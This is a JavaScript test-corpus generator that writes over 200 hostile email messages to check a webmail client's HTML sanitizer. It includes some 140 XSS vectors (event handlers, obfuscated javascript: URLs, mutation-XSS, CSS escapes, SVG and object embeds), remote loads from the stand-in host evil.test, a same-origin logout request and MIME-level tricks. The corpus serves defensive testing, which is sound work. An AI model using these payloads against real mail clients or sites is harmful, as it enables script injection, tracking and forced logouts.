// SPDX-License-Identifier: MIT
// The hostile corpus (issue 7 §4): HTML and MIME samples that try to run
// a script or to make the browser contact another host when the message
// is opened. Every script payload sets window/parent/top.__pwned and
// calls alert(); every network payload targets http://evil.test/ (or a
// same-origin path that must never be fetched either, such as a logout).
// Vectors x containers x encodings gives well over 200 messages.
//
//   node hostile.mjs DIR   writes DIR/NNN.eml (CRLF), prints the count
//   import { samples } from "./hostile.mjs"   for the runner
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

export const EVIL = "http://evil.test";
const JS = "window.__pwned=1;alert(1);parent.__pwned=1;top.__pwned=1";
const JSB64 = Buffer.from(JS).toString("base64");
const HTMLJS = `<script>${JS}</script>`;
const b64 = (s) => Buffer.from(s).toString("base64");

/* [name, html]: the body of a message (inside <body> unless it has its own document). */
export const VECTORS = [
	["script", `<script>${JS}</script>`],
	["script-src", `<script src="${EVIL}/s.js"></script>`],
	["img-onerror", `<img src=x onerror="${JS}">`],
	["img-onerror-unquoted", `<img src=x onerror=${JS}>`],
	["img-onload-data", `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${JS}">`],
	["body-onload", `<body onload="${JS}"><p>x</p></body>`],
	["svg-onload", `<svg onload="${JS}"></svg>`],
	["svg-script", `<svg><script>${JS}</script></svg>`],
	["svg-script-href", `<svg><script href="${EVIL}/svg.js"/></svg>`],
	["svg-a-xlink", `<svg><a xlink:href="javascript:${JS}"><text x="10" y="20">click</text></a></svg>`],
	["svg-animate", `<svg><animate onbegin="${JS}" attributeName="x" dur="1s"/></svg>`],
	["svg-set", `<svg><set attributeName="onload" to="${JS}"/></svg>`],
	["svg-use-remote", `<svg><use href="${EVIL}/u.svg#x"/></svg>`],
	["svg-image-remote", `<svg><image href="${EVIL}/svgimg.png" width="10" height="10"/></svg>`],
	["svg-feimage", `<svg><filter id="f"><feImage href="${EVIL}/fe.png"/></filter></svg>`],
	["svg-foreignobject", `<svg><foreignObject><iframe srcdoc="${HTMLJS.replace(/"/g, "&quot;")}"></iframe></foreignObject></svg>`],
	["a-javascript", `<a href="javascript:${JS}">click</a>`],
	["a-javascript-entity", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${JS}">click</a>`],
	["a-javascript-hex-entity", `<a href="&#x6A;avascript&#x3A;${JS}">click</a>`],
	["a-javascript-tab", `<a href="jav&#x09;ascript:${JS}">click</a>`],
	["a-javascript-newline", `<a href="jav&#x0A;ascript:${JS}">click</a>`],
	["a-javascript-space", `<a href=" javascript:${JS}">click</a>`],
	["a-javascript-null", `<a href="java\u0000script:${JS}">click</a>`],
	["a-vbscript", `<a href="vbscript:msgbox(1)">click</a>`],
	["a-data-html", `<a href="data:text/html;base64,${b64(HTMLJS)}">click</a>`],
	["a-ping", `<a ping="${EVIL}/ping" href="https://example.com/">click</a>`],
	["a-target-top", `<a href="javascript:${JS}" target="_top">top</a>`],
	["area-javascript", `<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:${JS}"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`],
	["iframe-javascript", `<iframe src="javascript:${JS}"></iframe>`],
	["iframe-srcdoc", `<iframe srcdoc="${HTMLJS.replace(/"/g, "&quot;")}"></iframe>`],
	["iframe-remote", `<iframe src="${EVIL}/frame"></iframe>`],
	["iframe-data", `<iframe src="data:text/html,${encodeURIComponent(HTMLJS)}"></iframe>`],
	["iframe-same-origin-logout", `<iframe src="/api/logout"></iframe>`],
	["nested-iframes", `<iframe srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;script&amp;gt;${JS}&amp;lt;/script&amp;gt;&quot;&gt;&lt;/iframe&gt;"></iframe>`],
	["frameset", `<frameset><frame src="javascript:${JS}"></frameset>`],
	["object-data-html", `<object data="data:text/html;base64,${b64(HTMLJS)}"></object>`],
	["object-remote", `<object data="${EVIL}/o.swf" type="application/x-shockwave-flash"></object>`],
	["object-javascript", `<object type="text/html" data="javascript:${JS}"></object>`],
	["object-svg", `<object data="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"/>`)}"></object>`],
	["embed-data", `<embed src="data:text/html;base64,${b64(HTMLJS)}">`],
	["embed-javascript", `<embed src="javascript:${JS}">`],
	["embed-svg", `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"/>`)}">`],
	["applet", `<applet code="x" codebase="${EVIL}/"></applet>`],
	["meta-refresh-js", `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`],
	["meta-refresh-remote", `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`],
	["meta-refresh-data", `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(HTMLJS)}">`],
	["meta-csp-relax", `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${JS}</script>`],
	["meta-set-cookie", `<meta http-equiv="Set-Cookie" content="facteur_session=x">`],
	["base-href", `<base href="${EVIL}/"><img src="rel.png"><a href="rel">rel</a>`],
	["base-javascript", `<base href="javascript:${JS}//"><a href="x">x</a>`],
	["link-stylesheet", `<link rel="stylesheet" href="${EVIL}/l.css">`],
	["link-prefetch", `<link rel="prefetch" href="${EVIL}/pf"><link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="${EVIL}">`],
	["link-import", `<link rel="import" href="${EVIL}/imp.html">`],
	["form-action", `<form action="${EVIL}/form" method="post"><input name="q" value="x"><input type="submit" autofocus></form>`],
	["form-autofocus-onfocus", `<form><input autofocus onfocus="${JS}"></form>`],
	["button-formaction", `<form><button formaction="javascript:${JS}" autofocus>go</button></form>`],
	["button-formaction-remote", `<form><button formaction="${EVIL}/fa">go</button></form>`],
	["input-image", `<input type="image" src="${EVIL}/i.png">`],
	["isindex", `<isindex action="javascript:${JS}" type="image">`],
	["style-attr-url", `<div style="background:url(${EVIL}/bg)">x</div>`],
	["style-attr-url-quoted", `<div style="background-image: url(&quot;${EVIL}/q&quot;)">x</div>`],
	["style-attr-escape", `<div style="background:\\75 rl(${EVIL}/esc)">x</div>`],
	["style-attr-escape2", `<div style="background:u\\72l(${EVIL}/esc2)">x</div>`],
	["style-attr-expression", `<div style="width:expression(${JS})">x</div>`],
	["style-attr-behavior", `<div style="behavior:url(${EVIL}/b.htc)">x</div>`],
	["style-attr-moz-binding", `<div style="-moz-binding:url(${EVIL}/x.xml#x)">x</div>`],
	["style-attr-image-set", `<div style="background-image:image-set('${EVIL}/is.png' 1x)">x</div>`],
	["style-attr-javascript", `<div style="background:url(javascript:${JS})">x</div>`],
	["style-import", `<style>@import url(${EVIL}/imp.css);</style>`],
	["style-import-string", `<style>@import "${EVIL}/imp2.css";</style>`],
	["style-bg", `<style>body{background:url('${EVIL}/bg2')}</style>`],
	["style-font-face", `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}body{font-family:x}</style>`],
	["style-list-image", `<style>li{list-style-image:url(${EVIL}/li.png)}</style><ul><li>x</li></ul>`],
	["style-cursor", `<style>div{cursor:url(${EVIL}/c.cur),auto}</style><div>x</div>`],
	["style-media", `<style>@media screen{body{background:url(${EVIL}/media.png)}}</style>`],
	["style-supports", `<style>@supports (display:block){p{background:url(${EVIL}/sup.png)}}</style><p>x</p>`],
	["style-escaped-url", `<style>p{background:\\75\\72\\6c(${EVIL}/escs.png)}</style><p>x</p>`],
	["style-breakout", `<style>p{content:"</style><img src=x onerror=${JS}>"}</style><p>x</p>`],
	["style-comment-breakout", `<style><!--</style><img src=x onerror=${JS}>--></style>`],
	["img-remote", `<img src="${EVIL}/track.gif" width="1" height="1">`],
	["img-remote-https", `<img src="https://evil.test/track2.gif">`],
	["img-protocol-relative", `<img src="//evil.test/proto-rel.png">`],
	["img-srcset", `<img srcset="${EVIL}/s1.png 1x, ${EVIL}/s2.png 2x">`],
	["img-lowsrc", `<img lowsrc="${EVIL}/low.png" dynsrc="${EVIL}/dyn.avi">`],
	["img-javascript", `<img src="jaVasCript:${JS}">`],
	["img-cid-traversal", `<img src="cid:../../../../api/logout">`],
	["img-same-origin", `<img src="/api/logout"><img src="/jmap/eventsource">`],
	["picture-source", `<picture><source srcset="${EVIL}/pic.webp"><img src="x.png"></picture>`],
	["video-poster", `<video poster="${EVIL}/p.png" autoplay><source src="${EVIL}/v.mp4"><track src="${EVIL}/t.vtt"></video>`],
	["audio-autoplay", `<audio src="${EVIL}/a.mp3" autoplay onplay="${JS}"></audio>`],
	["bgsound", `<bgsound src="${EVIL}/bg.wav">`],
	["table-background", `<table background="${EVIL}/tb.png"><tr><td background="${EVIL}/td.png">x</td></tr></table>`],
	["body-background", `<body background="${EVIL}/bodybg.png"><p>x</p></body>`],
	["image-tag", `<image src=x onerror="${JS}">`],
	["details-ontoggle", `<details open ontoggle="${JS}"><summary>s</summary>x</details>`],
	["marquee-onstart", `<marquee onstart="${JS}">x</marquee>`],
	["div-onmouseover", `<div onmouseover="${JS}" style="position:fixed;inset:0">x</div>`],
	["focus-onfocus", `<a href="#" id="f" autofocus onfocus="${JS}">x</a>`],
	["template-script", `<template><script>${JS}</script></template>`],
	["noscript-mxss", `<noscript><p title="</noscript><img src=x onerror=${JS}>"></p></noscript>`],
	["math-mxss", `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`],
	["svg-style-mxss", `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`],
	["math-textarea-mxss", `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${JS} src=1>">`],
	["form-math-mxss", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`],
	["comment-mxss", `<!--<img src="--><img src=x onerror=${JS}//">`],
	["title-mxss", `<title><img src=x onerror=${JS}></title>`],
	["textarea-mxss", `<textarea><img src=x onerror=${JS}></textarea>`],
	["select-template-mxss", `<select><template><style><img src=x onerror=${JS}></style></template></select>`],
	["xmp", `<xmp><img src=x onerror=${JS}></xmp>`],
	["plaintext", `<plaintext><img src=x onerror=${JS}>`],
	["nested-script", `<scr<script>ipt>${JS}</scr</script>ipt>`],
	["malformed-quotes", `<img """><script>${JS}</script>">`],
	["malformed-backtick", "<img src=`x`onerror=" + JS + ">"],
	["malformed-slash", `<img/src=x/onerror=${JS}>`],
	["malformed-unclosed", `<img src=x onerror=${JS}//`],
	["malformed-nul", `<img src=x o\u0000nerror=${JS}>`],
	["cdata", `<![CDATA[<img src=x onerror=${JS}>]]>`],
	["math-href", `<math href="javascript:${JS}"><mi>x</mi></math>`],
	["eval-atob", `<img src=x onerror="eval(atob('${JSB64}'))">`],
	["portal", `<portal src="${EVIL}/portal"></portal>`],
	["dialog-open", `<dialog open><form method="dialog"><button autofocus onfocus="${JS}">x</button></form></dialog>`],
	["svg-data-img", `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${JS}</script><image href="${EVIL}/inner.png"/></svg>`)}">`],
	["html-data-img", `<img src="data:text/html;base64,${b64(HTMLJS)}">`],
	["srcdoc-entity", `<iframe srcdoc="&lt;img src=x onerror=${JS}&gt;"></iframe>`],
	["dom-clobber", `<form id="__pwned"></form><img name="body"><a id="defaultView" href="${EVIL}/clob">x</a>`],
	["object-param", `<object><param name="src" value="${EVIL}/param"><param name="movie" value="${EVIL}/m.swf"></object>`],
	["keygen-autofocus", `<keygen autofocus onfocus="${JS}">`],
	["contenteditable-onfocus", `<div contenteditable autofocus onfocus="${JS}">x</div>`],
	["popover", `<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="${JS}">p</div>`],
	["custom-element-is", `<div is="x-evil" onclick="${JS}">x</div>`],
];

const pad = (n) => String(n).padStart(3, "0");

/* Tag and attribute names and URL schemes in mixed case (JavaScript itself is case sensitive). */
function mixedCase(html) {
	let i = 0;
	const flip = (s) => s.replace(/[a-z]/gi, (c) => (i++ % 2 ? c.toUpperCase() : c.toLowerCase()));
	return html
		.replace(/<(\/?)([a-zA-Z][a-zA-Z0-9-]*)/g, (_m, sl, tag) => "<" + sl + flip(tag))
		.replace(/(\s)(on[a-z]+|src|href|style|action|formaction|background|poster|srcset|data)=/g, (_m, sp, a) => sp + flip(a) + "=")
		.replace(/javascript:/g, () => flip("javascript") + ":");
}

function qp(s) {
	const bytes = Buffer.from(s, "utf8");
	let out = "";
	let line = 0;
	for (const b of bytes) {
		let piece;
		if (b === 0x0a) {
			out += "\r\n";
			line = 0;
			continue;
		}
		if ((b >= 33 && b <= 126 && b !== 61) || b === 32) piece = String.fromCharCode(b);
		else piece = "=" + b.toString(16).toUpperCase().padStart(2, "0");
		if (line + piece.length > 73) {
			out += "=\r\n";
			line = 0;
		}
		out += piece;
		line += piece.length;
	}
	return out;
}

function b64lines(s) {
	return Buffer.from(s, "utf8").toString("base64").replace(/.{1,76}/g, "$&\r\n");
}

function encodePart(html, enc, type = "text/html") {
	if (enc === "8bit" && html.includes("\u0000")) enc = "base64"; /* SMTP carries no NUL */
	if (enc === "base64") return `Content-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64lines(html)}`;
	if (enc === "qp") return `Content-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qp(html)}\r\n`;
	return `Content-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${html.replace(/\r?\n/g, "\r\n")}\r\n`;
}

function doc(body, marker) {
	return /<body|<frameset/i.test(body)
		? body.replace(/<body([^>]*)>/i, `<body$1><p>${marker}</p>`)
		: `<html><head><title>t</title></head><body><p>${marker}</p>\n${body}\n<p>end ${marker}</p></body></html>`;
}

const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

function message(n, name, headers, bodyPart) {
	return (
		`From: "Hostile ${n}" <hostile@evil.test>\r\nTo: <{TO}>\r\nSubject: hostile-${pad(n)} ${name}\r\n` +
		`Message-ID: <hostile-${pad(n)}@evil.test>\r\nDate: Mon, 01 Jan 2024 00:00:${pad(n % 60).slice(1)} +0000\r\nMIME-Version: 1.0\r\n` +
		headers + bodyPart
	);
}

/* All samples: { n, name, raw } with {TO} to be replaced by the recipient. */
export function samples() {
	const out = [];
	let n = 0;
	const add = (name, raw) => out.push({ n, name, raw });
	const ENC = ["8bit", "qp", "base64"];
	for (const [name, html] of VECTORS) {
		/* 1. a single text/html part, the transfer encoding cycling */
		n++;
		add(name, message(n, name, "", encodePart(doc(html, `sample ${pad(n)}`), ENC[n % 3])));
		/* 2. mixed case, inside multipart/alternative */
		n++;
		const alt = `alt-${n}`;
		add(name + " (mixed case, alternative)", message(n, name + " mixed", `Content-Type: multipart/alternative; boundary="${alt}"\r\n\r\n`,
			`--${alt}\r\n${encodePart(`sample ${pad(n)} in plain text <script>${JS}</script>`, "8bit", "text/plain")}` +
			`--${alt}\r\n${encodePart(doc(mixedCase(html), `sample ${pad(n)}`), ENC[(n + 1) % 3])}--${alt}--\r\n`));
	}
	/* 3. inside multipart/related next to a cid: image, for the first forty */
	for (const [name, html] of VECTORS.slice(0, 40)) {
		n++;
		const rel = `rel-${n}`;
		add(name + " (related)", message(n, name + " related", `Content-Type: multipart/related; boundary="${rel}"\r\n\r\n`,
			`--${rel}\r\n${encodePart(doc(`<img src="cid:logo${n}@x" alt="logo">` + html, `sample ${pad(n)}`), ENC[n % 3])}` +
			`--${rel}\r\nContent-Type: image/png\r\nContent-ID: <logo${n}@x>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\n${PNG}\r\n--${rel}--\r\n`));
	}
	/* 4. MIME-level tricks */
	const special = [
		["utf-7", `Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-${JS}+ADw-/script+AD4-<p>sample</p>\r\n`],
		["plain-text-script", `Content-Type: text/plain; charset=utf-8\r\n\r\n<script>${JS}</script> <img src=x onerror=${JS}> javascript:${JS} ${EVIL}/plain-link\r\n`],
		["html-as-attachment", `Content-Type: multipart/mixed; boundary="m1"\r\n\r\n--m1\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n--m1\r\nContent-Type: text/html; name="x.html"\r\nContent-Disposition: attachment; filename="<img src=x onerror=${JS}>.html"\r\n\r\n${HTMLJS}\r\n--m1--\r\n`],
		["attached-rfc822", `Content-Type: multipart/mixed; boundary="m2"\r\n\r\n--m2\r\nContent-Type: text/plain\r\n\r\nforwarded\r\n--m2\r\nContent-Type: message/rfc822\r\n\r\nFrom: x@evil.test\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=${JS}><img src="${EVIL}/inner-rfc822.png">\r\n--m2--\r\n`],
		["svg-attachment-inline", `Content-Type: multipart/related; boundary="m3"\r\n\r\n--m3\r\nContent-Type: text/html\r\n\r\n<p>svg</p><img src="cid:svg@x">\r\n--m3\r\nContent-Type: image/svg+xml\r\nContent-ID: <svg@x>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${JS}</script><image href="${EVIL}/svgcid.png"/></svg>\r\n--m3--\r\n`],
		["cid-html-part", `Content-Type: multipart/related; boundary="m4"\r\n\r\n--m4\r\nContent-Type: text/html\r\n\r\n<p>cid html</p><iframe src="cid:page@x"></iframe><img src="cid:page@x">\r\n--m4\r\nContent-Type: text/html\r\nContent-ID: <page@x>\r\n\r\n${HTMLJS}\r\n--m4--\r\n`],
		["broken-boundary", `Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=${JS}>\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>${JS}</script>\r\n`],
		["nested-multipart", `Content-Type: multipart/mixed; boundary="o"\r\n\r\n--o\r\nContent-Type: multipart/alternative; boundary="i"\r\n\r\n--i\r\nContent-Type: text/plain\r\n\r\nx\r\n--i\r\nContent-Type: text/html\r\n\r\n<svg><script>${JS}</script></svg><img src="${EVIL}/nested.png">\r\n--i--\r\n--o--\r\n`],
		["charset-latin1", `Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3E${JS}=3C/script=3E<p>caf=E9</p>\r\n`],
		["header-html", `Content-Type: text/plain\r\n\r\nthe headers carry the payload\r\n`],
	];
	for (const [name, body] of special) {
		n++;
		let raw = message(n, name, "", body);
		if (name === "header-html")
			raw = raw
				.replace(/^From: .*\r\n/m, `From: "<img src=x onerror=${JS}>" <hostile@evil.test>\r\n`)
				.replace(/^Subject: .*\r\n/m, `Subject: hostile-${pad(n)} <script>${JS}</script><img src=${EVIL}/subj.png>\r\n`);
		add(name, raw);
	}
	return out;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
	const dir = process.argv[2];
	if (!dir) {
		console.error("usage: node hostile.mjs DIR");
		process.exit(2);
	}
	mkdirSync(dir, { recursive: true });
	const all = samples();
	for (const s of all) writeFileSync(join(dir, pad(s.n) + ".eml"), s.raw);
	console.log(all.length);
}
